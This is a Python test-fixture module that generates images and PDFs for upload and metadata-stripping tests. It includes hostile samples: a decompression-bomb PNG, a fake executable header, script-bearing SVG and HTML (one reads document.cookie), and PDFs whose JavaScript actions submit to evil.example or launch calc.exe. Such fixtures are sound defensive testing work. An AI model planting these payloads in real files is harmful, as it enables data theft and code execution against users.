"""Real files for upload tests, made on the fly with Pillow and pypdf."""

import io

from PIL import Image, ImageDraw


def jpeg(
    width=2000, height=1400, *, color=(180, 40, 30), exif_gps=False, comment=None, mode="RGB"
) -> bytes:
    image = Image.new(mode, (width, height), color if mode == "RGB" else (0, 120, 200, 10))
    ImageDraw.Draw(image).rectangle(
        (width // 4, height // 4, width // 2, height // 2),
        fill=(0, 0, 0) if mode == "RGB" else (0, 0, 0, 0),
    )
    out = io.BytesIO()
    options = {"quality": 80}
    if exif_gps:
        exif = Image.Exif()
        exif[0x010F] = "SecretCam"  # Make
        exif[0x013B] = "Nguyen Van A"  # Artist
        exif[0x8825] = {1: "N", 2: (21.0, 1.0, 42.0), 3: "E", 4: (105.0, 51.0, 12.0)}  # GPSInfo
        options["exif"] = exif
    if comment:
        options["comment"] = comment
    image.save(out, "JPEG", **options)
    return out.getvalue()


def png(width=1800, height=1200, mode="RGBA") -> bytes:
    image = Image.new(mode, (width, height), (20, 90, 160, 200) if mode == "RGBA" else 128)
    out = io.BytesIO()
    image.save(out, "PNG")
    return out.getvalue()


def webp(width=1800, height=1200) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (width, height), (30, 120, 60)).save(out, "WEBP", quality=70)
    return out.getvalue()


def animated_webp(width=1700, height=1000) -> bytes:
    frames = [Image.new("RGB", (width, height), c) for c in ((200, 0, 0), (0, 200, 0))]
    out = io.BytesIO()
    frames[0].save(out, "WEBP", save_all=True, append_images=frames[1:], duration=200)
    return out.getvalue()


def cmyk_jpeg(width=1800, height=1200) -> bytes:
    out = io.BytesIO()
    Image.new("CMYK", (width, height), (0, 80, 80, 0)).save(out, "JPEG", quality=80)
    return out.getvalue()


def bomb_png() -> bytes:
    """12,000 × 12,000 one-bit pixels (144 megapixels) in a few kilobytes."""
    out = io.BytesIO()
    Image.new("1", (12_000, 12_000), 0).save(out, "PNG", optimize=True)
    return out.getvalue()


def pdf(pages=3, *, author=None) -> bytes:
    from pypdf import PdfWriter

    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(width=595, height=842)
    if author:
        writer.add_metadata({"/Author": author, "/Title": "Portfolio"})
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 4000
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
HTML = b"<!doctype html><html><script>alert(document.cookie)</script></html>"


def pdf_with(
    *,
    pages=2,
    names_js=False,
    open_action_js=False,
    page_aa_js=False,
    launch=False,
    attachment=False,
    file_annotation=False,
    harmless_actions=False,
    author=None,
) -> bytes:
    """A PDF with text on each page and, on request, what a PDF can carry that acts.

    harmless_actions: a page-open action that goes to the first page, an open action that
    shows it, and a link to a website: accepted, but none of it belongs in a jury copy.
    """
    from pypdf import PdfWriter
    from pypdf.generic import (
        ArrayObject,
        DecodedStreamObject,
        DictionaryObject,
        FloatObject,
        NameObject,
        TextStringObject,
    )

    def name(value):
        return NameObject(value)

    def dictionary(**entries):
        return DictionaryObject({name(f"/{k}"): v for k, v in entries.items()})

    def javascript(code):
        return dictionary(S=name("/JavaScript"), JS=TextStringObject(code))

    def rect():
        return ArrayObject([FloatObject(v) for v in (72, 72, 300, 120)])

    writer = PdfWriter()
    font = writer._add_object(
        dictionary(Type=name("/Font"), Subtype=name("/Type1"), BaseFont=name("/Helvetica"))
    )
    for n in range(pages):
        page = writer.add_blank_page(width=595, height=842)
        content = DecodedStreamObject()
        content.set_data(f"BT /F1 24 Tf 72 720 Td (Cau tre, trang {n + 1}) Tj ET".encode())
        page[name("/Contents")] = writer._add_object(content)
        page[name("/Resources")] = dictionary(Font=dictionary(F1=font))
        annotations = ArrayObject()
        if page_aa_js:
            page[name("/AA")] = dictionary(O=javascript("app.launchURL('http://evil.example/')"))
        if launch:
            annotations.append(
                dictionary(
                    Type=name("/Annot"),
                    Subtype=name("/Link"),
                    Rect=rect(),
                    A=dictionary(S=name("/Launch"), F=TextStringObject("calc.exe")),
                )
            )
        if file_annotation:
            data = DecodedStreamObject()
            data.set_data(b"the creator's notes")
            annotations.append(
                dictionary(
                    Type=name("/Annot"),
                    Subtype=name("/FileAttachment"),
                    Rect=rect(),
                    FS=dictionary(
                        Type=name("/Filespec"),
                        F=TextStringObject("notes.txt"),
                        EF=dictionary(F=writer._add_object(data)),
                    ),
                )
            )
        if harmless_actions:
            page[name("/AA")] = dictionary(
                O=dictionary(
                    S=name("/GoTo"),
                    D=ArrayObject([writer.pages[0].indirect_reference, name("/Fit")]),
                )
            )
            annotations.append(
                dictionary(
                    Type=name("/Annot"),
                    Subtype=name("/Link"),
                    Rect=rect(),
                    A=dictionary(S=name("/URI"), URI=TextStringObject("https://studio.example/")),
                )
            )
        if annotations:
            page[name("/Annots")] = annotations
    root = writer._root_object
    if names_js:
        root[name("/Names")] = dictionary(
            JavaScript=dictionary(
                Names=ArrayObject([TextStringObject("init"), javascript("app.alert('hi')")])
            )
        )
    if open_action_js:
        root[name("/OpenAction")] = javascript("this.submitForm('http://evil.example/')")
    if harmless_actions:
        root[name("/OpenAction")] = ArrayObject([writer.pages[0].indirect_reference, name("/Fit")])
    if attachment:
        writer.add_attachment("source.txt", b"the creator's source file")
    if author:
        writer.add_metadata({"/Author": author, "/Creator": f"{author}'s InDesign"})
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def pdf_names(data: bytes) -> set[str]:
    """Every dictionary key and name in every object of a PDF, reachable or not."""
    from pypdf import PdfReader
    from pypdf.generic import ArrayObject, DictionaryObject, IndirectObject, NameObject

    reader = PdfReader(io.BytesIO(data))
    found: set[str] = set()
    stack = [reader.trailer]
    numbers = [(n, gen) for gen, entries in reader.xref.items() for n in entries]
    numbers += [(n, 0) for n in reader.xref_objStm]
    stack += [IndirectObject(n, gen, reader) for n, gen in numbers]
    seen = set()
    while stack:
        node = stack.pop()
        if isinstance(node, IndirectObject):
            if node.idnum in seen:
                continue
            seen.add(node.idnum)
            node = node.get_object()
        if isinstance(node, NameObject):
            found.add(str(node))
        elif isinstance(node, ArrayObject):
            stack.extend(node)
        elif isinstance(node, DictionaryObject):
            found.update(str(key) for key in node)
            stack.extend(node.values())
    return found


# Files that name their author everywhere a camera, an editor or a layout tool would ---------


def _xmp(author: str) -> bytes:
    return (
        '<?xpacket begin="\ufeff" id="W5M0MpCehiHzreSzNTczkc9d"?>'
        '<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF '
        'xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
        '<rdf:Description rdf:about="" xmlns:dc="http://purl.org/dc/elements/1.1/" '
        'xmlns:photoshop="http://ns.adobe.com/photoshop/1.0/">'
        f"<dc:creator><rdf:Seq><rdf:li>{author}</rdf:li></rdf:Seq></dc:creator>"
        f"<dc:rights><rdf:Alt><rdf:li xml:lang='x-default'>© {author}</rdf:li></rdf:Alt></dc:rights>"
        f"<photoshop:AuthorsPosition>{author}</photoshop:AuthorsPosition>"
        "</rdf:Description></rdf:RDF></x:xmpmeta>"
        '<?xpacket end="w"?>'
    ).encode()


def _exif(author: str):
    from PIL import Image

    exif = Image.Exif()
    plain = author.encode("ascii", "replace").decode()
    exif[0x010E] = f"Photo by {plain}"  # ImageDescription
    exif[0x013B] = plain  # Artist
    exif[0x8298] = f"(c) {plain}"  # Copyright
    exif[0x9C9D] = author.encode("utf-16-le") + b"\x00\x00"  # XPAuthor (Windows)
    exif[0x8825] = {1: "N", 2: (21.0, 1.0, 42.0), 3: "E", 4: (105.0, 51.0, 12.0)}  # GPSInfo
    return exif


def _icc(author: str) -> bytes:
    """An ICC-shaped blob whose description names the author (nothing here parses it)."""
    text = f"Profile of {author}".encode()
    return b"\x00\x00\x02\x00ADBE" + b"\x00" * 120 + b"desc" + text


def _iptc(author: str) -> bytes:
    """Photoshop's APP13 block with IPTC By-line, Credit and Copyright (UTF-8)."""
    value = author.encode()
    records = b"\x1c\x01\x5a\x00\x03\x1b%G"  # 1:90 coded character set: UTF-8
    for dataset in (80, 110, 116):  # By-line, Credit, Copyright notice
        records += b"\x1c\x02" + bytes([dataset]) + len(value).to_bytes(2, "big") + value
    if len(records) % 2:
        records += b"\x00"
    return (
        b"Photoshop 3.0\x00" + b"8BIM\x04\x04\x00\x00" + len(records).to_bytes(4, "big") + records
    )


def _segment(marker: int, payload: bytes) -> bytes:
    return bytes([0xFF, marker]) + (len(payload) + 2).to_bytes(2, "big") + payload


def jpeg_naming(author: str, width=2000, height=1400) -> bytes:
    """A JPEG whose EXIF, XMP, IPTC, ICC profile and comment all name `author`."""
    image = Image.new("RGB", (width, height), (40, 90, 150))
    ImageDraw.Draw(image).ellipse((200, 200, 900, 900), fill=(230, 200, 40))
    out = io.BytesIO()
    image.save(
        out,
        "JPEG",
        quality=80,
        exif=_exif(author),
        icc_profile=_icc(author),
        comment=f"Made by {author}".encode(),
    )
    data = out.getvalue()
    extra = _segment(0xE1, b"http://ns.adobe.com/xap/1.0/\x00" + _xmp(author)) + _segment(
        0xED, _iptc(author)
    )
    after_jfif = 4 + int.from_bytes(data[4:6], "big")  # SOI, then APP0 (JFIF) comes first
    return data[:after_jfif] + extra + data[after_jfif:]


def png_naming(author: str, width=1800, height=1200) -> bytes:
    from PIL import PngImagePlugin

    info = PngImagePlugin.PngInfo()
    info.add_text("Author", author.encode("latin-1", "replace").decode("latin-1"))
    info.add_itxt("Copyright", f"© {author}")
    info.add_itxt("Comment", f"Made by {author}")
    info.add_itxt("XML:com.adobe.xmp", _xmp(author).decode())
    image = Image.new("RGBA", (width, height), (20, 90, 160, 220))
    out = io.BytesIO()
    image.save(out, "PNG", pnginfo=info, exif=_exif(author), icc_profile=_icc(author))
    return out.getvalue()


def webp_naming(author: str, width=1800, height=1200) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (width, height), (30, 120, 60)).save(
        out, "WEBP", quality=70, exif=_exif(author), xmp=_xmp(author), icc_profile=_icc(author)
    )
    return out.getvalue()


def pdf_naming(author: str, *, organization: str, pages=2) -> bytes:
    """A portfolio whose document info, XMP (document and page), a comment's author, a
    layout tool's private data and an embedded photo's EXIF all name `author`."""
    from pypdf import PdfWriter
    from pypdf.annotations import Text
    from pypdf.generic import (
        ArrayObject,
        DecodedStreamObject,
        DictionaryObject,
        NameObject,
        NumberObject,
        TextStringObject,
    )

    def metadata_stream():
        stream = DecodedStreamObject()
        stream.set_data(_xmp(author))
        stream[NameObject("/Type")] = NameObject("/Metadata")
        stream[NameObject("/Subtype")] = NameObject("/XML")
        return writer._add_object(stream)

    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(width=595, height=842)
    writer.add_metadata(
        {
            "/Author": author,
            "/Creator": f"{organization} — InDesign",
            "/Producer": f"{author}'s laptop",
            "/Title": f"Portfolio {author}",
            "/Subject": organization,
            "/Keywords": author,
        }
    )
    writer._root_object[NameObject("/Metadata")] = metadata_stream()

    page = writer.pages[0]
    page[NameObject("/Metadata")] = metadata_stream()
    page[NameObject("/PieceInfo")] = DictionaryObject(
        {
            NameObject("/Illustrator"): DictionaryObject(
                {NameObject("/Private"): TextStringObject(f"{author} / {organization}")}
            )
        }
    )
    # A photo placed on the page, with its camera metadata intact (DCT data is a JPEG file).
    photo = jpeg_naming(author, width=400, height=280)
    image = DecodedStreamObject()
    image._data = photo
    image.update(
        {
            NameObject("/Type"): NameObject("/XObject"),
            NameObject("/Subtype"): NameObject("/Image"),
            NameObject("/Width"): NumberObject(400),
            NameObject("/Height"): NumberObject(280),
            NameObject("/ColorSpace"): NameObject("/DeviceRGB"),
            NameObject("/BitsPerComponent"): NumberObject(8),
            NameObject("/Filter"): NameObject("/DCTDecode"),
            NameObject("/Metadata"): metadata_stream(),
        }
    )
    resources = DictionaryObject(
        {NameObject("/XObject"): DictionaryObject({NameObject("/Im0"): writer._add_object(image)})}
    )
    page[NameObject("/Resources")] = resources
    content = DecodedStreamObject()
    content.set_data(b"q 400 0 0 280 90 400 cm /Im0 Do Q")
    page[NameObject("/Contents")] = writer._add_object(content)
    note = Text(text=f"Ảnh: {author}", rect=(50, 50, 200, 100))
    note[NameObject("/T")] = TextStringObject(author)  # a comment's author
    writer.add_annotation(page_number=0, annotation=note)
    assert isinstance(page["/Annots"], ArrayObject)

    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()
